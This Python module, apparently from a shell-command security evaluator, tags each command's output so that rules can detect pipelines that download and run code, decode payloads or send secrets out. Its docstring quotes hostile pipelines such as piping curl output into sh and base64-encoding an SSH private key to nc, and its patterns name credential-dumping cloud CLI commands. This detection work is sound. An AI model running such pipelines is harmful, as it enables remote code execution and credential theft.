"""What a command's output is made of: the tags that follow data down pipes, into files and back.

A pipeline is judged by what flows through it, not by its neighbours: ``curl URL | tee log | sh`` runs a
download, ``cat ~/.ssh/id_rsa | base64 | nc host 1`` sends a key. Each command adds tags for what it
produces (``download:curl``, ``decoder:base64 -d``, ``network:nc``, ``shell:bash``,
``secret:~/.ssh/id_rsa``, ``environment:env``, ``paths:/etc/**``) and passes on what it reads, so the
rules see, in one set per command, every source upstream of it, however long the pipeline.
"""

from __future__ import annotations

import posixpath
import re
from collections.abc import Sequence

from securecli_eval.shell.commands import SimpleCommand
from securecli_eval.shell.paths import is_exfil_worthy, norm_path
from securecli_eval.shell.vocabulary import vocabulary
from securecli_eval.shell.wrappers import (
    SHELLS,
    find_named,
    find_roots,
    find_selects_everything,
    found,
    has_short,
    option_values,
    shell_code,
    short_option,
)

_CURL_VALUES = "odFHuXAeTxmwbcKrEUyYzCDQPt"
_WGET_VALUES = "OoaPeitTwQUlARDIXBhy"
_URL = re.compile(r"^(?:https?|ftps?|tftp|scp|sftp|file|gopher|dict|ldap|smb|s3|gs)://", re.IGNORECASE)


_HOST_PATH = re.compile(r"^[\w.-]+\.[a-z]{2,}/\S+$")


def urls(args: Sequence[str]) -> list[str]:
    """Arguments that name a remote resource: ``scheme://...`` or ``host.tld/path``."""
    return [a for a in args if ("/" in a or ":" in a) and (_URL.match(a) or _HOST_PATH.match(a))]


def downloads_to_stdout(cmd: SimpleCommand) -> bool:
    program, args = cmd.program, cmd.args
    if program == "curl":
        if has_short(args, "O", _CURL_VALUES) or "--remote-name" in args or "--remote-name-all" in args:
            return False
        outputs = short_option(args, "o", _CURL_VALUES) + option_values(args, ("--output",))
        return not outputs or "-" in outputs
    if program == "wget":
        outputs = short_option(args, "O", _WGET_VALUES) + option_values(args, ("--output-document",))
        return "-" in outputs
    return program not in ("aria2c", "axel", "ftp", "tftp")


def downloaded_files(program: str, args: Sequence[str]) -> list[str]:
    """Files a downloader writes: ``-o FILE``, ``-O`` (the URL's name), ``-P DIR``, wget's default."""
    if program not in vocabulary().programs["downloaders"]:
        return []
    names = [posixpath.basename(u.split("?", 1)[0].rstrip("/")) or "index.html" for u in urls(args)]
    if program == "curl":
        outputs = short_option(args, "o", _CURL_VALUES) + option_values(args, ("--output",))
        files = [f for f in outputs if f != "-"]
        if has_short(args, "O", _CURL_VALUES) or "--remote-name" in args or "--remote-name-all" in args:
            directory = (option_values(args, ("--output-dir",)) or [""])[0]
            files += [posixpath.join(directory, n) if directory else n for n in names]
        return files
    if program == "wget":
        outputs = short_option(args, "O", _WGET_VALUES) + option_values(args, ("--output-document",))
        if outputs:
            return [f for f in outputs if f != "-"]
        prefixes = short_option(args, "P", _WGET_VALUES) + option_values(args, ("--directory-prefix",))
        directory = prefixes[0] if prefixes else ""
        return [posixpath.join(directory, n) if directory else n for n in names]
    outputs = short_option(args, "o", "") + option_values(args, ("--output", "--out"))
    directory = (short_option(args, "d", "") + option_values(args, ("--dir",)) or [""])[0]
    files = [f for f in outputs if f != "-"]
    if not files and program in ("aria2c", "axel", "fetch"):
        files = names
    return [posixpath.join(directory, f) if directory and not f.startswith("/") else f for f in files]


REMOTE_PATH = re.compile(r"^(?:[\w.-]+@)?[\w.-]+:(?!//)\S*$")  # host:path, user@host:path
_COPIERS = frozenset({"scp", "rsync", "sftp"})


def fetched_files(program: str, args: Sequence[str]) -> list[str]:
    """Files copied here from another host (``scp HOST:PATH .``): what is in them is remote, as a download's.

    A target that may be a directory names the file inside it too (``scp h:/srv/p.sh /tmp`` is /tmp/p.sh).
    """
    if program not in _COPIERS:
        return []
    operands = [a for a in args if not a.startswith("-")]
    if len(operands) < 2 or REMOTE_PATH.match(operands[-1]) and not operands[-1].startswith(("/", "~", ".")):
        return []
    target = operands[-1]
    files: list[str] = []
    for source in operands[:-1]:
        if not REMOTE_PATH.match(source) or source.startswith(("/", "~", ".")):
            continue
        name = posixpath.basename(source.split(":", 1)[1].rstrip("/"))
        inside = posixpath.join(target, name) if name else None
        if target in (".", "~") or target.endswith("/"):
            files += [inside] if inside else []
        else:
            files += [target, *([inside] if inside else [])]
    return files


def extracted_archive(cmd: SimpleCommand) -> tuple[str, str] | None:
    """(archive, directory) of an archive unpacked here: ``tar xz`` (``-`` is stdin), ``unzip A -d D``."""
    program, args = cmd.program, cmd.args
    if program in ("tar", "bsdtar"):
        bundle = next((a for a in args[:1] if re.fullmatch(r"[A-Za-z]+", a) and "x" in a), None)
        bundle = bundle or next((a for a in args if re.fullmatch(r"-[A-Za-z]+", a) and "x" in a), None)
        if bundle is None and not any(a in ("--extract", "--get") for a in args):
            return None
        archive = "-"  # no -f: the archive is read from stdin
        if bundle is not None and "f" in bundle and args.index(bundle) + 1 < len(args):
            archive = args[args.index(bundle) + 1]  # xzf FILE, -xfz FILE: f takes the next word
        archive = (option_values(args, ("-f", "--file")) or [archive])[0]
        directory = (option_values(args, ("-C", "--directory")) or ["."])[0]
        return archive, directory
    if program == "unzip":
        operands = [a for a in args if not a.startswith("-")]
        directories = option_values(args, ("-d",))
        operands = [o for o in operands if o not in directories]
        return (operands[0], (directories or ["."])[0]) if operands else None
    if program in ("7z", "7za") and args[:1] in (("x",), ("e",)):
        operands = [a for a in args[1:] if not a.startswith("-")]
        directories = [a[2:] for a in args if a.startswith("-o") and len(a) > 2]
        return (operands[0], (directories or ["."])[0]) if operands else None
    return None


_PRINTS_CREDENTIALS = re.compile(
    r"configure (?:get|export-credentials)|sts get-session-token|auth print-(?:access|identity)-token|"
    r"account get-access-token|config view --raw|get secret"
)
_SECRET_NAME = re.compile(r"SECRET|TOKEN|PASSWORD|PASSWD|API_KEY|PRIVATE_KEY|ACCESS_KEY")
_DECODERS = frozenset(
    {
        "base64",
        "base32",
        "basenc",
        "gbase64",
        "xxd",
        "openssl",
        "uudecode",
        "rev",
        "zcat",
        "gunzip",
        "bunzip2",
    }
    | {"unxz", "lzcat", "xzcat", "zstdcat", "bzcat", "gzip", "bzip2", "xz", "zstd", "tr", "printf", "echo"}
)


def decoder(cmd: SimpleCommand) -> str | None:
    """How a command decodes its input (``base64 -d``, ``xxd -r``, ``rev``, rot13 ``tr`` ...), or None."""
    program, args = cmd.program, cmd.args
    if program not in _DECODERS:
        return None
    flags = "".join(a[1:] for a in args if a.startswith("-") and not a.startswith("--"))
    if program in ("base64", "base32", "basenc", "gbase64") and (
        "d" in flags or "D" in flags or "--decode" in args
    ):
        return f"{program} -d"
    if program == "xxd" and "r" in flags:
        return "xxd -r"
    if program == "openssl" and "d" in flags and args[:1] and args[0] in ("base64", "enc", "aes-256-cbc"):
        return "openssl -d"
    if program in (
        "uudecode",
        "rev",
        "zcat",
        "gunzip",
        "bunzip2",
        "unxz",
        "lzcat",
        "xzcat",
        "zstdcat",
        "bzcat",
    ):
        return program
    if program in ("gzip", "bzip2", "xz", "zstd") and "d" in flags:
        return f"{program} -d"
    if program == "tr" and any("N-ZA-M" in a or "n-za-m" in a for a in args):
        return "tr (rot13)"
    if program in ("printf", "echo") and any(re.search(r"\\x[0-9a-fA-F]{2}|\\[0-7]{3}", a) for a in args):
        return f"{program} with escapes"
    return None


def archive_output(cmd: SimpleCommand) -> str | None:
    """The file an archiver or encrypter writes (``tar czf OUT``, ``zip OUT``, ``gpg -o OUT``), if any."""
    program, args = cmd.program, cmd.args
    if program == "tar":
        bundle = next((a for a in args if re.fullmatch(r"-?[A-Za-z]*f[A-Za-z]*", a) and "c" in a), None)
        if bundle is not None:
            position = args.index(bundle)
            return args[position + 1] if position + 1 < len(args) else None
        values = option_values(args, ("--file",))
        return values[0] if values else None
    if program in ("zip", "rar") or (program in ("7z", "7za") and args[:1] == ("a",)):
        operands = [a for a in args if not a.startswith("-") and a != "a"]
        return operands[0] if operands else None
    if program in ("gpg", "openssl"):
        values = short_option(args, "o", "") + option_values(args, ("--output", "-out"))
        return values[0] if values else None
    return None


def executed_file(program: str, args: Sequence[str], path: str) -> str | None:
    """The file a command runs as a program or script: ``./x``, ``sh x``, ``python3 x.py``, ``. x``."""
    from securecli_eval.shell.interpreters import LANGUAGES, script_operand

    if program in ("source", "."):
        return args[0] if args else None
    if program in SHELLS:
        if shell_code(program, args) is not None:
            return None
        operands = [a for a in args if not a.startswith(("-", "+"))]
        return operands[0] if operands else None
    language = LANGUAGES.get(program)
    if language is not None:
        return script_operand(language, args)
    if program in ("at", "batch"):
        values = [args[i + 1] for i, a in enumerate(args[:-1]) if a == "-f"]
        return values[0] if values else None
    if program == "insmod":  # the module file runs in the kernel
        operands = [a for a in args if not a.startswith("-")]
        return operands[0] if operands else None
    return path if "/" in path else None


def _operands(cmd: SimpleCommand) -> list[str]:
    return [a for a in cmd.args if not a.startswith("-") or a == "-"]


def resolve(path: str, cwd: str | None) -> str:
    if cwd is None or not path or path.startswith(("/", "~", "$", "-")) or "://" in path:
        return path
    return cwd.rstrip("/") + "/" + path if cwd != "/" else "/" + path


def file_tags(path: str) -> frozenset[str]:
    """What reading ``path`` gives: ``secret:PATH`` for credentials and the like, the environment."""
    norm = norm_path(path)
    if re.match(r"^/proc/(?:\d+|self|\*)/environ$", norm):
        return frozenset({"environment:" + norm, "secret:" + norm})
    if is_exfil_worthy(norm):
        return frozenset({"secret:" + norm})
    return frozenset()


def output_tags(cmd: SimpleCommand) -> frozenset[str]:
    """Tags for what ``cmd`` itself puts on its stdout (what it passes on from stdin, the walker adds)."""
    program = cmd.program
    words = vocabulary()
    tags: set[str] = set()
    if program in words.programs["downloaders"] and downloads_to_stdout(cmd):
        tags.add(f"download:{program}")
    if program in words.programs["network_clients"]:
        tags.add(f"network:{program}")
    if program in SHELLS and shell_code(program, cmd.args) is None and not _operands(cmd):
        tags.add(f"shell:{program}")
    if program == "history" or (program == "fc" and "-l" in cmd.args):
        tags.add("secret:~/.bash_history")
    if program in ("gpg", "gpg2") and any(a.startswith("--export-secret") for a in cmd.args):
        tags.add("secret:~/.gnupg (exported secret keys)")
    if program in ("aws", "gcloud", "az", "kubectl") and _PRINTS_CREDENTIALS.search(" ".join(cmd.args)):
        tags.add(f"secret:{program} credentials")
    found_decoder = decoder(cmd)
    if found_decoder:
        tags.add(f"decoder:{found_decoder}")
    if (program in ("env", "printenv") and not _operands(cmd)) or (
        program in ("set", "export", "declare") and not cmd.args
    ):
        tags.add(f"environment:{program}")
    if program in ("printenv", "echo", "printf"):
        secret_variable = words.patterns["secret_variable"]
        for arg in cmd.args:
            named = "$" + arg if program == "printenv" and _SECRET_NAME.search(arg) else arg
            if secret_variable.search(named):
                tags.add(f"secret:{named}")
    if program == "find" and not any(a in ("-exec", "-execdir", "-delete", "-ok") for a in cmd.args):
        everything = find_selects_everything(cmd.args)
        roots = find_roots(cmd.args)
        tags.update(f"paths:{found(resolve(r, cmd.cwd), everything)}" for r in roots)
        if not everything:  # and the critical paths its name tests select (find / -name etc)
            tags.update(
                f"paths:{p}" for p in find_named([resolve(a, cmd.cwd) if a in roots else a for a in cmd.args])
            )
    elif program == "ls":  # names relative to the listed directory, or the operands themselves with -d
        listed = has_short(cmd.args, "d", "") or "--directory" in cmd.args
        operands = _operands(cmd)
        tags.update(f"paths:{resolve(o, cmd.cwd)}" for o in operands) if listed else tags.add("paths:*")
    if program not in words.programs["non_readers"]:
        for operand in _operands(cmd):
            if operand.startswith(("/", "~")) or "/" in operand or cmd.cwd is not None:
                tags.update(file_tags(resolve(operand, cmd.cwd)))
        for redirect in cmd.redirects:
            if redirect.reads:
                tags.update(file_tags(resolve(redirect.target, cmd.cwd)))
        for arg in cmd.args:
            if arg.startswith(("if=", "@")):
                tags.update(file_tags(resolve(arg.split("=", 1)[-1].lstrip("@"), cmd.cwd)))
    return frozenset(tags)
